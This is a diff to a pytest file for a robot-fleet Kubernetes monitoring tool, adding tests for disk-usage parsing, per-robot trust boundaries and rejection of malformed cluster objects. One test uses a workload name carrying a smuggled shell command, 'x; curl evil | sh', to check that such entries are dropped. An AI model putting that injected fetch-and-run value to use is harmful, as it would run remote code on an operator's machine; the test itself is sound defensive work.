@@ -316,9 +316,44 @@ def test_who_reads_whose_graph(hosts: list[look.Member], services: Any, read: di
 
 def test_what_volumes_hold() -> None:
     path = "/var/lib/rancher/k3s/storage/pvc-3f_robot-robot1_logs-pvc"
-    said = [f"4096\t{path}", "12 /somewhere/else", "du: cannot read"], ["7\t/k3s/storage/pvc-aa_fleet_maps"], []
-    found = look.usage_of([{"stdout_lines": lines} for lines in said] + [OFF])
+    said = {
+        "robot1": [f"4096\t{path}", "12 /somewhere/else", "du: cannot read", f"{'9' * 5000}\t{path}2"],
+        "edge1": ["7\t/k3s/storage/pvc-aa_fleet_maps"],
+        "robot2": [f"1\t{path}", "1\t/k3s/storage/pvc-aa_fleet_maps"],  # which are not its own
+        "robot3": [],
+    }
+    found = look.usage_of(
+        {**{host: {"stdout": "\n".join(lines)} for host, lines in said.items()}, "off": OFF}, ["robot1", "robot2"]
+    )
     assert found == {"robot-robot1/logs-pvc": 4096, "fleet/maps": 7}
+
+
+def test_a_robots_own_cluster_speaks_for_that_robot_alone() -> None:
+    """Whoever is root there says what he wants, and an operator copies commands with names in them."""
+    run = {"playbook": "update.yml", "started": "9", "outcome": "updated", "reason": ""}
+    told = {host: json.dumps({"host": host, **run}) for host in ("robot1", "robot2")}
+    other = {**workload("lidar"), "metadata": {"name": "lidar", "labels": {"rosops.fleet/robot": "robot2"}}}
+    command = {**workload("x"), "metadata": {**workload("x")["metadata"], "name": "x; curl evil | sh"}}
+    maps = [{"metadata": {"name": look.REF.name, "namespace": look.REF.namespace}, "data": told}]
+    found = look.believed(
+        look.Answer({"Deployment": [workload("base"), other, command], "ConfigMap": maps}), "robot1", 0.0
+    )
+    rows = look.held.cluster_rows([found.objects], {}, 0.0)
+    assert ([row.name for row in rows.apps], [row.host for row in rows.outcomes]) == (["base"], ["robot1"])
+
+
+@pytest.mark.parametrize(
+    "objects",
+    [
+        {"Pod": [7]},
+        {"Deployment": [{**workload("base"), "spec": {"replicas": "many"}}]},
+        {"Pod": [{**pod("base", "robot1"), "spec": {"containers": 7}}]},
+        {"Deployment": [{**workload("base"), "status": {"readyReplicas": float("inf")}}]},
+    ],
+)
+def test_nonsense_of_a_robots_own_cluster_is_a_problem_of_that_cluster(objects: Any) -> None:
+    found = look.believed(look.Answer(objects), "robot1", 0.0)
+    assert (found.objects, "makes no sense" in found.problem) == ({}, True)
 
 
 def test_a_host_whose_volumes_take_too_long_is_a_problem() -> None:
@@ -337,3 +372,7 @@ def test_rates_that_apps_promise() -> None:
     assert told == {"/odom": Promise(18, "base", "robot1"), "/scan": Promise(10, "fused", "robot1")}
     services = {"edge": [service("robot-robot1", "10.43.0.1")]}
     assert look.graphs_to_read(hosts, services, there)["robot1"].promised == told
+
+
+def test_what_a_host_returns_that_is_no_result_of_a_command() -> None:
+    assert look.usage_of({"robot1": {"stdout": 7, "stdout_lines": 7}, "robot2": {"stdout": ["4096\t/x"]}}, []) == {}
